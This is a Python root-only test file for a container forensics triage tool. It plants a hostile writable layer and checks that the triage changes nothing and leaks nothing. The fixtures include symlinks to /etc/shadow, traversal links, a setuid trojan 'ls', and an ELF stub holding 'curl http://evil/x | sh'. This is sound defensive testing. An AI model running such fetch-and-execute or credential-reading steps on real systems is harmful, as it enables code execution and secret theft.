"""The hostile corpus in a container's writable layer (a fake overlay2 host built under
tmp_path), through the container steps of a real triage run, and the audit that nothing
under the analysed root changed."""

from __future__ import annotations

import contextlib
import json
import os
import socket
import stat
import tarfile
from pathlib import Path

import pytest

from forensics.cli import main
from forensics.context import HostContext
from forensics.records import NotAvailable
from forensics.steps import TriageOptions
from forensics.triage import REGISTRY, load_steps, run_triage
from tests.hostile.corpus import CANARY
from tests.hostile.harness import assert_same, canaries, guarded, snapshot
from tests.unit.fakehost import add_container
from tests.unit.test_container_diff import build

pytestmark = pytest.mark.root

STEPS = ("host.facts", "disk.inventory", "containers.list", "containers.inspect", "containers.runtime",
         "containers.diff", "containers.extract", "containers.compare", "images.analyse", "binary.triage",
         "scan.host", "scan.lint")  # fmt: skip


@pytest.fixture(autouse=True)
def _need_root() -> None:
    if os.geteuid() != 0:
        pytest.skip("needs root: whiteouts and devices are made with mknod")


def plant(upper: Path, outside: Path) -> Path:
    """Hostile entries in a writable layer; returns the marker the trojan would create."""
    marker = outside / f"{CANARY}-trojan-ran"
    (upper / "etc").mkdir(exist_ok=True)
    (upper / "bin").mkdir(exist_ok=True)
    (upper / "app").mkdir()
    os.symlink("/etc/shadow", upper / "etc/motd")
    os.symlink("/../../../../etc/shadow", upper / "app/x")
    os.symlink("../../../..", upper / "app/up")
    os.symlink(str(outside), upper / "app/out")
    os.symlink("loop2", upper / "app/loop1")
    os.symlink("loop1", upper / "app/loop2")
    for i in range(60):
        os.symlink(f"{'y' * 200}/../c{i + 1}", upper / f"app/c{i}")
    os.symlink(str(outside), upper / "app/c60")
    ls = upper / "bin/ls"
    ls.write_text(f"#!/bin/sh\ntouch {marker}\n")
    ls.chmod(0o4755)
    elf = upper / "app/capbin"
    elf.write_bytes(b"\x7fELF\x02\x01\x01" + b"\0" * 57 + b"curl http://evil/x | sh\n")
    elf.chmod(0o755)
    with contextlib.suppress(OSError):
        os.setxattr(
            elf,
            "security.capability",
            b"\x01\x00\x00\x02\x00\x20\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00\x00",
        )
    os.mkfifo(upper / "app/fifo")
    os.mknod(upper / "app/null", 0o666 | stat.S_IFCHR, os.makedev(1, 3))
    os.mknod(upper / "app/sda", 0o660 | stat.S_IFBLK, os.makedev(8, 0))
    here = os.getcwd()
    os.chdir(upper / "app")  # a socket path is limited to 108 bytes: bind it relative
    try:
        sock = socket.socket(socket.AF_UNIX)
        sock.bind("sock")
        sock.close()
    finally:
        os.chdir(here)
    (upper / os.fsdecode(b"app/bad-\xff-name")).write_bytes(b"x")
    (upper / "app/new\nline").write_bytes(b"x")
    (upper / "app/[blink]oops\x1b[2J").write_bytes(b"x")
    (upper / "app/secret.env").write_text("AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY\n")
    fd = os.open(upper / "app", os.O_RDONLY | os.O_DIRECTORY)
    for _ in range(40):  # deeper than PATH_MAX, made one directory fd at a time
        os.mkdir("d" * 200, dir_fd=fd)
        child = os.open("d" * 200, os.O_RDONLY | os.O_DIRECTORY, dir_fd=fd)
        os.close(fd)
        fd = child
    os.close(fd)
    return marker


def _log(archive: Path) -> list[dict]:
    with tarfile.open(archive) as tar:
        member = next(m for m in tar.getmembers() if m.name.endswith("/acquisition.log"))
        handle = tar.extractfile(member)
        assert handle is not None
        return [json.loads(line) for line in handle.read().splitlines()]


def test_hostile_writable_layer_through_the_triage_changes_nothing_and_escapes_nowhere(
    tmp_path: Path,
) -> None:
    o = build(tmp_path)
    outside = tmp_path / "outside"
    outside.mkdir()
    marker = plant(o.upper, outside)
    # A second container whose config is not JSON, and a third whose config is enormous.
    bad = add_container(o.root, "corrupt", "corrupt")
    (o.root / "var/lib/docker/containers" / bad / "config.v2.json").write_bytes(b'{"ID": \xff\xfe not json')
    huge = add_container(o.root, "huge", "huge")
    with open(o.root / "var/lib/docker/containers" / huge / "config.v2.json", "wb") as f:
        f.write(b'{"ID": "' + b"A" * (64 << 20) + b'"}')
    host = HostContext(o.root, NotAvailable("test: no engine"), no_engine=True)
    load_steps()
    out = tmp_path / "out"
    out.mkdir()
    before = snapshot(tmp_path, skip=[out], content=True)
    result = guarded(lambda: run_triage(host, out, TriageOptions(), argv=["test"],
                                        steps=[REGISTRY[n] for n in STEPS if n in REGISTRY]), "triage")  # fmt: skip
    assert_same(before, snapshot(tmp_path, skip=[out], content=True))
    assert not marker.exists() and canaries(outside, Path("/tmp"), Path("/")) == []
    assert main(["evidence", "verify", str(result.archive.path)]) == 0
    status = {o.name: o.status for o in result.outcomes}
    assert all(s in ("ok", "skipped") for s in status.values()), result.outcomes
    log = json.dumps(_log(result.archive.path))
    assert "config.v2.json" in log  # the corrupt and the enormous config are recorded
    # /etc/shadow of this machine never entered the archive through the planted links.
    shadow = Path("/etc/shadow").read_bytes() if Path("/etc/shadow").exists() else b""
    with tarfile.open(result.archive.path) as tar:
        for member in tar.getmembers():
            assert not member.issym() and not member.islnk() and not member.isdev() and not member.isfifo()
            if member.isfile() and shadow and member.size == len(shadow):
                handle = tar.extractfile(member)
                assert handle is not None and handle.read() != shadow, member.name
    with tarfile.open(result.archive.path) as tar:
        names = [m.name for m in tar.getmembers()]
        diffs = [n for n in names if "containers" in n and n.endswith(".json") and "diff" in n]
        assert diffs, names
        text = b"".join(tar.extractfile(n).read() for n in diffs)  # type: ignore[union-attr]
    assert b"/app/x" in text and b"/etc/motd" in text and b"/bin/ls" in text
